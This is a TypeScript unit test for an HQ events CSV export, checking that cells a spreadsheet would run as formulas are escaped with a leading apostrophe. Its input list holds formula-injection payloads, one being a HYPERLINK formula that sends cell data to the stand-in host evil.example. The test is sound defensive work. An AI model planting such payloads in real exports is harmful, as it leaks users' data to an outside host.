import { describe, expect, it } from 'vitest';
import type { TimelineEvent } from '@seal/shared';
import { eventsCsv } from './csv';

async function text(stream: NodeJS.ReadableStream): Promise<string> {
  const parts: Buffer[] = [];
  for await (const part of stream) parts.push(Buffer.from(part as Uint8Array));
  return Buffer.concat(parts).toString('utf8').replace(/^\uFEFF/, '');
}

const event = (over: Partial<TimelineEvent>): TimelineEvent => ({
  id: 'evt-1', at: 1_790_000_000_000, kind: 'stamp', unitId: 'unit-site', sealId: 'seal-1', deviceId: 'dev-1', requestId: 'req-1', personIds: [], summary: {}, ...over,
}) as unknown as TimelineEvent;

/** One page of events, as the route's pages come. */
const pagesOf = (events: readonly TimelineEvent[]): AsyncIterable<readonly TimelineEvent[]> => ({
  [Symbol.asyncIterator]: () => {
    let done = false;
    return { next: () => Promise.resolve(done ? { done: true as const, value: undefined } : ((done = true), { done: false as const, value: events })) };
  },
});

describe('the HQ events CSV', () => {
  it('writes a cell a spreadsheet would run as a formula as text (a leading apostrophe), and plain cells as they are', async () => {
    const hostile = ['=HYPERLINK("https://evil.example/?"&A2,"详情")', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1'];
    const csv = await text(eventsCsv(pagesOf(hostile.map((_, i) => event({ id: `evt-${i}`, unitId: `unit-${i}` }))), (id) => hostile[Number(id.slice(5))]!));
    const names = csv.trim().split('\r\n').slice(1).map((line) => line.split(',')[4]);
    for (const cell of names) expect(cell, cell).toMatch(/^"?'/);
    const plain = await text(eventsCsv(pagesOf([event({})]), () => '项目部 Site 7'));
    expect(plain).toContain(',项目部 Site 7,');
  });
});
